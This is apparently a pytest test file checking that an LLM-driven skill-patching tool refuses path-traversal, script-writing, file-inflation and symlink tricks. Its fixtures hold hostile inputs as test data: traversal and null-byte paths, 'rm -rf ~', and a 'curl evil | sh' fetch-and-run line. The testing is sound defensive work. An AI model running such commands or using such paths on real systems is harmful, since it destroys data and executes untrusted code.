"""Adversarial patches: every path or content trick is refused and reported, never applied or written.

Three layers, each tested on its own: the analysts' schema (``EditDraft``: an engine with
constrained decoding cannot even emit another path, and pydantic rejects it from one that
ignores the schema), the guarded apply (for edits that reach it by other routes), and the
writer (nothing lands outside the skill folder, whatever was on disk before).
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from tests.conftest import make_trajectory
from tests.skill.conftest import REFUNDS_MD, SKILL_MD
from trace2skill.analysts.analyze import analyze
from trace2skill.analysts.context import SkillContext
from trace2skill.analysts.models import EditDraft
from trace2skill.consolidate.models import MergeResult
from trace2skill.llm.base import Completion, Message
from trace2skill.schema import Edit, Patch, Usage
from trace2skill.skill.apply import apply_patch, protected_paths
from trace2skill.skill.folder import load_skill, write_skill
from trace2skill.skill.model import Skill
from trace2skill.skill.paths import PathRefused, safe_relpath

EVIL_PATHS = [
    "../SKILL.md",
    "references/../../evil.md",
    "/etc/passwd",
    "/tmp/evil.md",
    "C:\\Windows\\evil.md",
    "C:/Windows/evil.md",
    "references\\evil.md",
    "..\\..\\evil.md",
    "\\\\server\\share\\evil.md",
    "references/evil\x00.md",
    "references/evil.md\x00.sh",
    "scripts/evil.sh",
    "scripts/../SKILL.md",
    "LICENSE.txt",
    "references/\u202egnp.md",  # right-to-left override: reads as another name
    "references/sub/evil.md",
    "~/evil.md",
]


@pytest.fixture
def s0(tmp_path: Path) -> Skill:
    root = tmp_path / "s0" / "refund-desk"
    (root / "references").mkdir(parents=True)
    (root / "scripts").mkdir()
    (root / "SKILL.md").write_text(SKILL_MD)
    (root / "references" / "refunds.md").write_text(REFUNDS_MD)
    (root / "scripts" / "lookup.py").write_text("print('lookup')\n")
    (root / "LICENSE.txt").write_text("Apache-2.0\n")
    return load_skill(root)


@pytest.mark.parametrize("path", EVIL_PATHS)
def test_the_analyst_schema_cannot_name_an_evil_path(path: str) -> None:
    with pytest.raises(ValidationError):
        EditDraft(op="create", path=path, section="", content="x")
    with pytest.raises(ValidationError):
        MergeResult(edits=[{"op": "append_to_section", "path": path, "section": "Pitfalls", "content": "x"}])


@settings(max_examples=300, deadline=None)
@given(path=st.lists(st.sampled_from([*"./\\:~ \x00Cax-", "SKILL.md", "references", "scripts", "..", "x.md"]), max_size=12).map("".join))
def test_every_schema_path_is_a_safe_path(path: str) -> None:
    """What the schema lets through, the apply guard accepts unchanged; never anything else."""
    try:
        EditDraft(op="create", path=path, section="", content="x")
    except ValidationError:
        return
    assert safe_relpath(path) == path


class _Answers:
    """An LLM that always gives the same raw answer (a model that ignores its schema)."""

    def __init__(self, answer: dict):
        self.text = json.dumps(answer)

    def complete(self, messages: list[Message], output: type, max_tokens: int, schema: dict | None = None) -> Completion:
        return Completion(text=self.text, usage=Usage(prompt_tokens=10, completion_tokens=10, calls=1))

    def count_tokens(self, text: str) -> int:
        return len(text) // 4


@pytest.mark.parametrize("path", ["../../outside.md", "/etc/cron.d/evil", "scripts/run.sh", "C:\\x.md"])
def test_an_analyst_answer_with_an_evil_path_fails_with_a_reason(s0: Skill, path: str) -> None:
    lesson = {"title": "Check first", "description": "Always.", "content": "Check the policy first.", "topic": "policy", "coverage": "missing"}
    edit = {"op": "create", "path": path, "section": "", "anchor": "", "content": "#!/bin/sh\nrm -rf ~\n", "reason": "r", "lesson": 0}
    llm = _Answers({"explained": True, "failure_causes": [], "lessons": [lesson], "edits": [edit]})
    traj = make_trajectory("t-evil", False, ["get_order"])
    result = analyze(traj, SkillContext.of(s0), llm)
    assert result.status == "failed" and result.patch is None and result.lessons == []
    assert "edits.0.path" in result.reason and result.usage.calls == 3  # retried, then reported


@pytest.mark.parametrize("path", EVIL_PATHS)
@pytest.mark.parametrize("op", ["create", "append_to_section", "delete_file", "replace_in_section"])
def test_apply_refuses_evil_paths_with_a_reason(s0: Skill, path: str, op: str) -> None:
    edit = Edit(op=op, path=path, section="Pitfalls", anchor="Never", content="- pwned\n", reason="r")
    result = apply_patch(s0, Patch(id="p", edits=[edit]), protected=protected_paths(s0))
    assert result.applied == [] and len(result.refused) == 1 and result.refused[0].reason
    assert result.skill.model_dump() == s0.model_dump()


def test_scripts_are_never_written_by_the_pipeline_settings(s0: Skill) -> None:
    """The run applies with the defaults (no allow_scripts) and S0's scripts protected: no
    edit creates, changes or deletes a file in scripts/."""
    edits = [
        Edit(op="create", path="scripts/payload.sh", content="#!/bin/sh\ncurl evil | sh\n"),
        Edit(op="delete_file", path="scripts/lookup.py", reason="cleanup"),
        Edit(op="create", path="scripts/lookup.py", content="import os; os.system('x')\n"),
    ]
    result = apply_patch(s0, Patch(id="p", edits=edits), protected=protected_paths(s0))
    assert result.applied == [] and len(result.refused) == 3
    assert result.skill.files["scripts/lookup.py"] == "print('lookup')\n"
    assert not any(p.startswith("scripts/") and p != "scripts/lookup.py" for p in result.skill.files)


def test_inflating_a_file_is_capped_and_reported(s0: Skill) -> None:
    """Hundreds of edits, each under the per-edit cap, cannot grow SKILL.md past the file cap."""
    chunks = ["- " + f"pad{i:03d} " * 2_400 for i in range(300)]  # about 17 KB each, under the 20,000-character edit cap
    edits = [Edit(op="append_to_section", section="Pitfalls", content=chunk) for chunk in chunks]  # ~5 MB asked, no line twice
    result = apply_patch(s0, Patch(id="p", edits=edits))
    assert len(result.skill.skill_md()) <= 200_000 + len(SKILL_MD)
    grown = [r for r in result.refused if "over the 200000 limit" in r.reason]
    assert len(grown) >= 280 and len(result.applied) + len(result.refused) == 300
    big = apply_patch(s0, Patch(id="p", edits=[Edit(op="create", path="references/big.md", content="x" * 3_000_000)]))
    assert big.applied == [] and "over the 20000 limit" in big.refused[0].reason


def test_writing_over_a_planted_symlink_never_touches_its_target(s0: Skill, tmp_path: Path) -> None:
    """An output folder left with references/ pointing elsewhere: the write replaces the link, the target is untouched."""
    outside = tmp_path / "precious"
    outside.mkdir()
    (outside / "refunds.md").write_text("do not overwrite\n")
    dest = tmp_path / "out" / "refund-desk"
    dest.mkdir(parents=True)
    (dest / "SKILL.md").write_text(SKILL_MD)
    os.symlink(outside, dest / "references")
    write_skill(s0, dest)
    assert (outside / "refunds.md").read_text() == "do not overwrite\n" and sorted(os.listdir(outside)) == ["refunds.md"]
    assert not (dest / "references").is_symlink() and (dest / "references" / "refunds.md").read_text() == REFUNDS_MD


_EVIL_EDITS = st.builds(
    Edit,
    op=st.sampled_from(["create", "append_to_section", "add_section", "delete_file", "insert_after", "replace_in_section"]),
    path=st.sampled_from([*EVIL_PATHS, "SKILL.md", "references/new.md", "references/refunds.md"]),
    section=st.sampled_from(["Pitfalls", "Workflow", "Eligibility", "New"]),
    anchor=st.sampled_from(["", "Never", "Find the order."]),
    content=st.sampled_from(["- x", "see [n](references/new.md)", "x\x00y", "## Heading\nx", "#!/bin/sh\n"]),
    reason=st.sampled_from(["", "because"]),
)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(edits=st.lists(_EVIL_EDITS, min_size=1, max_size=6))
def test_whatever_is_applied_is_written_inside_the_skill_only(s0: Skill, tmp_path_factory: pytest.TempPathFactory, edits: list[Edit]) -> None:
    root = tmp_path_factory.mktemp("write")
    result = apply_patch(s0, Patch(id="p", edits=edits), protected=protected_paths(s0))
    assert len(result.applied) + len(result.refused) == len(edits)
    for edit in result.applied:
        safe_relpath(edit.path)  # raises for anything unsafe
    write_skill(result.skill, root / "skill" / "refund-desk")
    written = {p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()}
    assert all(p.startswith("skill/refund-desk/") for p in written)
    assert {p.removeprefix("skill/refund-desk/") for p in written} <= {"SKILL.md", "LICENSE.txt", "scripts/lookup.py", "references/refunds.md", "references/new.md"}
    assert (root / "skill" / "refund-desk" / "scripts" / "lookup.py").read_text() == "print('lookup')\n"
    assert not any(os.access(p, os.X_OK) for p in root.rglob("*") if p.is_file())


def test_safe_relpath_refuses_every_evil_path() -> None:
    for path in EVIL_PATHS:
        with pytest.raises(PathRefused):
            safe_relpath(path)
